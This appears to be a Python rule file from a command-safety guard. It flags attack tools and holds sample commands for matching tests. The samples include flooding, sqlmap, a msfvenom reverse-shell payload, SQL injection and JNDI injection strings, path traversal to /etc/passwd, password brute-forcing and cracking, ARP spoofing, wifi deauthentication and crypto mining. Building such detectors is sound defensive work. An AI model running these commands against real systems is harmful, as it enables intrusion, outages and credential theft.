"""Attack tools."""

from interlock.levels import Level
from interlock.rules.reconnaissance import is_another_machine
from interlock.rules.rule import Rule, effect, family

RULES = family(
    "attacks",
    Rule(
        name="flood",
        level=Level.CRITICAL,
        when=effect("net.connect", "flood"),
        reason="Flooding a service with requests makes it unavailable",
        reversible=False,
        match=["$ slowloris example.com", "$ goldeneye https://example.com", "$ hping3 -S --flood example.com"],
        no_match=["$ ab -n 10 https://example.com/", "$ slowloris --help", "$ ping -c 3 example.com"],
    ),
    Rule(
        name="attack_tool",
        level=Level.HIGH,
        when=(
            effect(
                "net.connect", "attack", without="brute_force spoof flood wireless privesc", named=is_another_machine
            ),
            effect("process.run", "attack", without="brute_force spoof flood wireless privesc"),
        ),
        reason="This program exists to break into systems",
        reversible=False,
        match=[
            "$ sqlmap -u https://example.com/?id=1",
            "$ msfvenom -p linux/x64/shell_reverse_tcp -f elf",
            "$ evil-winrm -i 10.0.0.5 -u x",
            "$ impacket-secretsdump x@10.0.0.5",
        ],
        no_match=["$ sqlmap -u http://localhost:5000/?id=1", "$ sqlmap --version", "$ sqlite3 app.db .tables"],
    ),
    Rule(
        name="attack_request",
        level=Level.HIGH,
        when=effect("net.fetch net.send", "attack", named=is_another_machine),
        reason="The text of the request attacks the application that receives it",
        match=[
            "$ curl 'https://shop.example.com/item?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--'",
            "$ curl -H 'User-Agent: ${jndi:ldap://198.51.100.9/a}' https://app.example.com/login",
            "$ curl --path-as-is https://files.example.com/../../../etc/passwd",
            ">>> requests.get('https://shop.example.com/item', params={'id': \"1' OR '1'='1\"})",
            'tool http_request {"url": "https://app.example.com/hello?name={{7*7}}"}',
        ],
        no_match=[
            "$ curl 'http://localhost:3000/item?id=1%27%20UNION%20SELECT%201--'",
            "$ curl 'https://shop.example.com/people?name=O%27Brien'",
            "$ curl 'https://data.example.com/query?query=SELECT%20a%20FROM%20t%20UNION%20SELECT%20b%20FROM%20u'",
        ],
    ),
    Rule(
        name="password_guessing",
        level=Level.HIGH,
        when=effect("net.connect", "attack", "brute_force", named=is_another_machine),
        reason="Guessing passwords is an attempt to sign in as somebody else",
        reversible=False,
        match=["$ hydra -l root -P words.txt ssh://10.0.0.5", "$ medusa -h 10.0.0.5 -u root -P words.txt -M ssh"],
        no_match=["$ hydra --help", "$ hydra -h", "$ ssh root@10.0.0.5"],
    ),
    Rule(
        name="password_cracking",
        level=Level.HIGH,
        when=effect("process.run", "crack", without="names"),
        reason="Cracking hashes reveals other people's passwords",
        reversible=False,
        match=["$ john hashes.txt", "$ hashcat -m 0 hashes.txt words.txt", "$ fcrackzip -u -D -p words.txt a.zip"],
        no_match=["$ hashcat --help", "$ john --version", "$ john --test=1", "$ hashcat -b -m 0"],
    ),
    Rule(
        name="spoofing",
        level=Level.HIGH,
        when=effect("net.connect", "spoof"),
        reason="Impersonating another machine redirects its traffic here",
        reversible=False,
        match=["$ arpspoof -i eth0 -t 10.0.0.5 10.0.0.1", "$ bettercap -iface eth0"],
        no_match=["$ arp -a", "$ ettercap --help"],
    ),
    Rule(
        name="wireless_attack",
        level=Level.HIGH,
        when=effect("net.connect", "wireless"),
        reason="These tools break into wireless networks or disconnect others",
        match=["$ aireplay-ng --deauth 10 -a 00:11:22:33:44:55 wlan0", "$ airmon-ng start wlan0"],
        no_match=["$ iw dev", "$ aircrack-ng --help"],
    ),
    Rule(
        name="weakness_search",
        level=Level.HIGH,
        when=effect("process.run", "privesc"),
        reason="This program looks for ways to become root or escape a container",
        match=["$ pspy64", "$ ./linpeas.sh", "$ traitor -a"],
        no_match=["$ ps aux", "$ id"],
    ),
    Rule(
        name="mining",
        level=Level.HIGH,
        when=effect("net.connect", "mining"),
        reason="Mining uses the machine's power for somebody's wallet",
        match=["$ xmrig -o pool.example.com:3333 -u x", "$ cpuminer -a scrypt -o stratum+tcp://example.com:1"],
        no_match=["$ xmrig --version", "$ nice make"],
    ),
)
